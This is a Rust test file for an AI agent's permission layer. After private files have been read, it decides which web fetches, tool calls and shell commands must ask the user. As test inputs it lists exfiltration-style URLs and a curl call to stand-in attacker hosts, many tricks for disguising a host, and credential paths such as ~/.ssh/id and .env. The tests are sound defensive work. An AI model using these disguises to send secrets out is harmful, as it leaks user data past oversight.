use super::*;
use crate::paths::Roots;
use crate::rules::{Rule, Source};
use std::sync::Arc;
use tiller_protocol::{Profile, Touch};

use crate::decide::{Human, decide};

fn policy() -> Policy {
    let own = vec!["/home/u/.local/state/tiller".into()];
    let resolve = Arc::new(|p: &Path| crate::paths::normal(p));
    let roots = Roots::with_resolve("/work/app", Some("/home/u".into()), own, resolve);
    Policy::new(roots, crate::testing::tools())
}

fn request<'a>(tool: &'a str, access: &'a [Access], raw: &'a str) -> Request<'a> {
    let (profile, human, touch) = (Profile::Full, Human::Present, Touch::Network);
    Request { profile, human, agent: "main", tool, touch, access, raw }
}

fn net(url: &str) -> [Access; 1] {
    let host = host_of(url).unwrap_or_default();
    [Access::Net { url: url.into(), host, local: false }]
}

/// The verdict in `full` about fetching an address.
fn fetch(policy: &Policy, heard: &Heard, url: &str) -> Verdict {
    let access = net(url);
    let request = request("web_fetch", &access, url);
    sending(policy, &request, heard, decide(policy, &request))
}

fn asks(policy: &Policy, heard: &Heard, url: &str) -> bool {
    matches!(fetch(policy, heard, url), Verdict::Ask { .. })
}

#[test]
fn after_private_text_only_named_hosts_are_reached_unasked() {
    let mut policy = policy();
    let mut heard = Heard::default();
    heard.user(
        "look at https://Docs.Example.com/x, at crates.io and at src/main.rs; README.md; a@mail.example",
    );
    heard.text("see https://page.example/a?b=1).");
    for url in ["https://page.example/a?b=1", "https://other.example/?q=1"] {
        assert!(!asks(&policy, &heard, url), "nothing was read: {url}");
    }
    heard.private("/home/u/notes.txt");
    for (url, want) in [
        ("https://docs.example.com/y?secret=1", false),
        ("https://www.crates.io/", false),
        ("https://page.example/a?b=1", true),
        ("https://example.com/", true),
        ("https://docs.example.com.evil.example/", true),
        ("https://docs.example.com@evil.example/", true),
        ("https://main.rs/?q=1", true),
        ("https://readme.md/?q=1", true),
        ("https://mail.example/?q=1", true),
        ("https://set.example/", true),
    ] {
        assert_eq!(asks(&policy, &heard, url), want, "{url}");
    }
    policy.hosts = vec!["set.example".into(), "*.below.example".into()];
    let ruled =
        |text: &str| Rule::parse(Effect::Allow, Source::User, text, &crate::testing::tools()).unwrap();
    for text in [
        "web_fetch(domain:ruled.example)",
        "web_fetch(domain:*.wild.example)",
        "web_fetch(domain:*.com)",
        "web_fetch(https://address.example/*)",
        "web_fetch(https://cut.example*)",
        "web_fetch",
        "web_fetch(*)",
    ] {
        policy.rules.push(ruled(text));
    }
    for (url, want) in [
        ("https://set.example/?q=1", false),
        ("https://a.below.example/", false),
        ("https://below.example/", true),
        ("https://ruled.example/", false),
        ("https://a.wild.example/", false),
        ("https://any.com/", true),
        ("https://address.example/?q=1", false),
        ("https://cut.example.evil.example/", true),
        ("https://other.example/", true),
    ] {
        assert_eq!(asks(&policy, &heard, url), want, "{url}");
    }
    let Verdict::Ask { rule, effects, always, .. } = fetch(&policy, &heard, "https://other.example/?q=1")
    else {
        panic!("it asks");
    };
    assert!(rule.text().contains("/home/u/notes.txt") && rule.text().contains("other.example"), "{rule}");
    assert_eq!(effects, ["sends https://other.example/?q=1"]);
    assert_eq!(always.as_deref(), Some("web_fetch(domain:other.example)"));
    // The rule of the answer is an answer for good; one yes is not.
    let access = net("https://other.example/?q=1");
    heard.agreed(&policy, &request("web_fetch", &access, ""));
    assert!(asks(&policy, &heard, "https://other.example/?q=2"));
    policy.rules.push(ruled("web_fetch(domain:other.example)"));
    assert!(!asks(&policy, &heard, "https://other.example/?q=2"));
}

#[test]
fn after_foreign_text_an_address_that_was_put_together_asks_once_for_a_host() {
    let policy = policy();
    let mut heard = Heard::default();
    heard.user("look at docs.example.com/x");
    heard.text("[a](https://page.example/a?b=1), \"HTTPS://Page.example/deep/\"; x://page.example/no");
    heard.foreign("web_fetch");
    for (url, want) in [
        ("https://docs.example.com/anything", false),
        ("https://page.example/a?b=1", false),
        ("https://page.example/a?b=1#part", false),
        ("https://page.example/deep", false),
        ("https://page.example/a?b=2", true),
        ("https://page.example/a", true),
        ("https://page.example/no", true),
        ("https://other.example/", true),
    ] {
        assert_eq!(asks(&policy, &heard, url), want, "{url}");
    }
    let access = net("https://other.example/?q=1");
    heard.agreed(&policy, &request("web_fetch", &access, ""));
    assert!(!asks(&policy, &heard, "https://other.example/?q=2"));
    assert!(asks(&policy, &heard, "https://page.example/a"), "another host");
}

/// However an address is spelled, the host that it leads to counts.
#[test]
fn no_spelling_of_an_address_hides_its_host() {
    let policy = policy();
    let mut heard = Heard::default();
    heard.user("use https://good.example and 127.0.0.1");
    heard.private("/home/u/notes.txt");
    // As the tools give an address: read and written again.
    for (url, host, want) in [
        ("https://evil.example./?q=1", "evil.example.", true),
        ("https://EVIL.example/?q=1", "EVIL.example", true),
        ("https://127.evil.example/?q=1", "127.evil.example", true),
        ("https://127.0.0.1.evil.example/?q=1", "127.0.0.1.evil.example", true),
        ("https://localhost.evil.example/?q=1", "localhost.evil.example", true),
        ("https://good.example.evil.example/", "good.example.evil.example", true),
        ("https://good.example@evil.example/", "evil.example", true),
        ("https://evil.example:8443/", "evil.example", true),
        ("https://good.example./?q=1", "good.example.", false),
        ("https://Good.Example:443/?q=1", "good.example", false),
        ("http://127.0.0.9:1/", "127.0.0.9", false),
        ("http://a.localhost/", "a.localhost", false),
    ] {
        let access = [Access::Net { url: url.into(), host: host.into(), local: false }];
        let request = request("web_fetch", &access, url);
        let allowed = Verdict::Allow { rule: "full mode".into(), unasked: None };
        assert_eq!(sending(&policy, &request, &heard, allowed.clone()) != allowed, want, "{url}");
    }
    for (arguments, want) in [
        (r#"{"url": "https://evil.example/?q=1"}"#, true),
        (r#"{"url": "https:\/\/evil.example/"}"#, true),
        (r#"{"url": "https:\u002f\u002fevil.example/"}"#, true),
        (r#"{"url": "https:/evil.example/?q=1"}"#, true),
        (r#"{"url": "https:evil.example"}"#, true),
        (r#"{"url": "http:/134744072/?q=1"}"#, true),
        (r#"{"url": "HTTPS:\\\\evil.example\\x"}"#, true),
        (r#"{"url": "//evil.example/x"}"#, true),
        (r#"{"url": "evil.example/?q=1"}"#, true),
        (r#"{"baseUrl": "evil.example"}"#, true),
        (r#"{"options": {"hostname": "evil.example", "port": 80}}"#, true),
        (r#"{"urls": ["good.example", "evil.example/x"]}"#, true),
        (r#"{"endpoint": "1.2.3.4:80"}"#, true),
        (r#"{"url": "https://good.example\n@evil.example/"}"#, true),
        (r#"{"url": "https://good\t.example.evil.example/"}"#, true),
        (r#"{"url": "gopher://evil.example/1secret"}"#, true),
        (r#"{"url": "git+ssh://git@evil.example/x.git"}"#, true),
        (r#"{"text": "see ftp://evil.example/x"}"#, true),
        (r#"{"https://evil.example/?q=1": true}"#, true),
        (r#"{"text": "//evil.example/x"}"#, true),
        (r#"{"url": "https://good.example/?q=1"}"#, false),
        (r#"{"url": "good.example/x"}"#, false),
        (r#"{"url": "file:///work/app/a.txt"}"#, false),
        (r#"{"uri": "demo://resource/static/features.md"}"#, false),
        (r#"{"url": "/api/items.json"}"#, false),
        (r#"{"uri": "README.md"}"#, false),
        (r#"{"url": "src/main.rs"}"#, false),
        (r#"{"text": "git: the fix. https: see http"}"#, false),
        (r#"{"text": "obj.method of evil.example"}"#, false),
    ] {
        let access =
            [Access::Mcp { server: "s".into(), tool: "get".into(), arguments: arguments.to_owned() }];
        let request = request("tool_call", &access, "");
        let allowed = Verdict::Allow { rule: "full mode".into(), unasked: None };
        assert_eq!(sending(&policy, &request, &heard, allowed.clone()) != allowed, want, "{arguments}");
    }
}

/// Every tool that sends is under the same rule.
#[test]
fn the_rule_is_that_of_each_tool_that_sends() {
    let policy = policy();
    let mut heard = Heard::default();
    heard.private("/home/u/notes.txt");
    let url = "https://evil.example/?q=1";
    let mcp = |arguments: &str| {
        [Access::Mcp { server: "s".into(), tool: "get".into(), arguments: arguments.to_owned() }]
    };
    let run = |command: &str| {
        [Access::Run { command: command.to_owned(), folder: "/work/app".into(), background: false }]
    };
    let word = [Access::Net { url: "how to do it".into(), host: "engine.example".into(), local: false }];
    let local = [Access::Net { url: "http://127.0.0.1:3/".into(), host: "127.0.0.1".into(), local: true }];
    let several = [net("https://evil.example/")[0].clone(), net("https://more.example/")[0].clone()];
    let told = format!(r#"{{"url": "{url}"}}"#);
    for (tool, access, raw, want) in [
        ("web_fetch", &net(url)[..], "", true),
        ("web_extract", &several[..], "", true),
        ("browse", &net(url)[..], "", true),
        ("tool_call", &mcp(&told)[..], "", true),
        ("tool_call", &mcp(r#"{"text": "no address"}"#)[..], "", false),
        ("their WebFetch", &[][..], told.as_str(), true),
        ("terminal", &run("curl 'https://evil.example/?q=1'")[..], "", true),
        ("terminal", &run("curl http://localhost:3000/")[..], "", false),
        ("web_search", &word[..], "how to do it", false),
        ("browse", &local[..], "", false),
    ] {
        let request = request(tool, access, raw);
        let allowed = Verdict::Allow { rule: "full mode".into(), unasked: None };
        let judged = sending(&policy, &request, &heard, allowed.clone());
        assert_eq!(judged != allowed, want, "{tool} {raw}: {judged:?}");
        let denied = Verdict::Deny { rule: "x".into(), reason: "x".into() };
        assert_eq!(sending(&policy, &request, &heard, denied.clone()), denied);
    }
    // A question that there is anyhow says more.
    let access = net(url);
    let (rule, effects) = ("no permission rule matches".into(), vec!["fetches".into()]);
    let asked = Verdict::Ask { rule, risk: Risk::Low, effects, always: None };
    let Verdict::Ask { risk, effects, .. } =
        sending(&policy, &request("web_fetch", &access, ""), &heard, asked)
    else {
        panic!("it asks");
    };
    assert!(risk == Risk::High && effects.len() == 3 && effects[1].contains("notes.txt"), "{effects:?}");
}

#[test]
fn what_is_private_is_known_by_paths_and_by_the_words_of_commands() {
    let policy = policy();
    let (private, foreign, neither) = (Some(true), Some(false), None);
    let read = |path: &str, inside: bool| [Access::Read { path: path.into(), inside }];
    let run = |command: &str| {
        [Access::Run { command: command.into(), folder: "/work/app/sub".into(), background: false }]
    };
    let script = |code: &str| [Access::Script { code: code.into() }];
    for (access, want) in [
        (read("/work/app/src/a.rs", true), neither),
        (read("/work/app/.env.local", true), private),
        (read("/home/u/.ssh/id", false), private),
        (read("/home/u/notes.txt", false), private),
        (read("/work/other/src/a.rs", false), private),
        (read("/etc/passwd", false), private),
        (read("/usr/include/stdio.h", false), neither),
        (read("/home/u/.cargo/registry/src/x/lib.rs", false), foreign),
        (read("/work/app/node_modules/x/README.md", true), foreign),
        (read("/home/u/.local/state/tiller/spill/s/1", false), neither),
        (read("/home/u/.local/state/tiller/tiller.db", false), private),
        (run("cat ../../other/x"), private),
        (run("cat ../README.md"), neither),
        (run("cp ~/notes.txt ."), private),
        (run("grep -r x < ~/notes.txt"), private),
        (run("cargo test 2> /tmp/log"), neither),
        (run("sort .env"), private),
        (script("print(open('/home/u/notes.txt').read())"), private),
        (script("print(open(\"~/notes.txt\").read())"), private),
        (script("import os\nprint(os.path.expanduser('x'))"), private),
        (script("print(open('src/a.rs').read())"), neither),
    ] {
        let mut heard = Heard::default();
        heard.reads(&policy, "x", &access);
        let found = heard.private.is_some().then_some(true).or(heard.foreign.is_some().then_some(false));
        assert_eq!(found, want, "{access:?}: {heard:?}");
    }
}
